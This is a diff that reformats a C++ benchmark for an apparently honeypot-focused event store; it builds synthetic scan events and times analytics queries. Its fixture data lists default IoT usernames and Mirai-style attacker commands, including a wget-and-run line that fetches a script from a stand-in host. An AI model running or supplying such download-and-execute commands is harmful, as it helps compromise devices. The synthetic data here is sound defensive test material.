@@ -42,12 +42,19 @@ std::string v4(uint32_t a) {
 Event makeEvent(std::mt19937_64& rng, Timestamp ts) {
     static const char* kTools[] = {"mirai", "mirai", "mirai", "zmap", "masscan", "nmap", "unknown", "unknown"};
     static const char* kUsers[] = {"root", "admin", "user", "support", "guest", "ubnt", "pi", "test"};
-    static const char* kCommands[] = {"enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox ECCHI",
-                                      "cd /tmp; wget http://192.0.2.7/x.sh; sh x.sh", "uname -a", "free -m"};
+    static const char* kCommands[] = {"enable",
+                                      "system",
+                                      "shell",
+                                      "sh",
+                                      "cat /proc/mounts; /bin/busybox ECCHI",
+                                      "cd /tmp; wget http://192.0.2.7/x.sh; sh x.sh",
+                                      "uname -a",
+                                      "free -m"};
     const uint64_t r = rng();
     const uint64_t dice = r % 1000;
     // Sources: a skewed draw (a few very busy scanners, a long tail) in 100.64.0.0/10-like space.
-    const uint32_t source = 0x64400000u + static_cast<uint32_t>(std::min<uint64_t>((r >> 20) % 500000, (r >> 40) % 500000));
+    const uint32_t source =
+        0x64400000u + static_cast<uint32_t>(std::min<uint64_t>((r >> 20) % 500000, (r >> 40) % 500000));
     Event e;
     e.ts = ts;
     e.sensor = "bench";
@@ -209,16 +216,18 @@ int main(int argc, char** argv) {
                              return r.countsByType(range, nullptr) && r.distinctSources(range, nullptr) &&
                                     r.probeTotals(range) && r.infectedHostCount(range, nullptr);
                          }});
-        for (const auto kind : {store::TopKind::Sources, store::TopKind::Ports, store::TopKind::Asns,
-                                store::TopKind::Countries, store::TopKind::Tools, store::TopKind::Families,
-                                store::TopKind::Credentials, store::TopKind::Commands}) {
+        for (const auto kind :
+             {store::TopKind::Sources, store::TopKind::Ports, store::TopKind::Asns, store::TopKind::Countries,
+              store::TopKind::Tools, store::TopKind::Families, store::TopKind::Credentials, store::TopKind::Commands}) {
             cases.push_back({fmt::format("top {}/{}", store::topKindName(kind), label), 200,
                              [&r, range, kind] { return static_cast<bool>(r.top(kind, range, 10, nullptr)); }});
         }
         cases.push_back({"search prefix+time/" + label, 500, [&r, range, prefix] {
                              store::EventSearch search;
-                             search.addr_lo = std::string(reinterpret_cast<const char*>(prefix.network().bytes().data()), 16);
-                             search.addr_hi = std::string(reinterpret_cast<const char*>(prefix.last().bytes().data()), 16);
+                             search.addr_lo =
+                                 std::string(reinterpret_cast<const char*>(prefix.network().bytes().data()), 16);
+                             search.addr_hi =
+                                 std::string(reinterpret_cast<const char*>(prefix.last().bytes().data()), 16);
                              search.from = range.from;
                              search.to = range.to;
                              search.limit = 100;
@@ -226,8 +235,9 @@ int main(int argc, char** argv) {
                              return page && !page->events.empty();
                          }});
         cases.push_back({"series probes 5m/" + label, 200, [&r, range] {
-                             return static_cast<bool>(r.probeSeries(range, 300 * kMicrosPerSecond * (range.to - range.from > kDay ? 12 : 1),
-                                                                    std::nullopt, std::nullopt, false));
+                             return static_cast<bool>(
+                                 r.probeSeries(range, 300 * kMicrosPerSecond * (range.to - range.from > kDay ? 12 : 1),
+                                               std::nullopt, std::nullopt, false));
                          }});
     }
     int missed = 0;
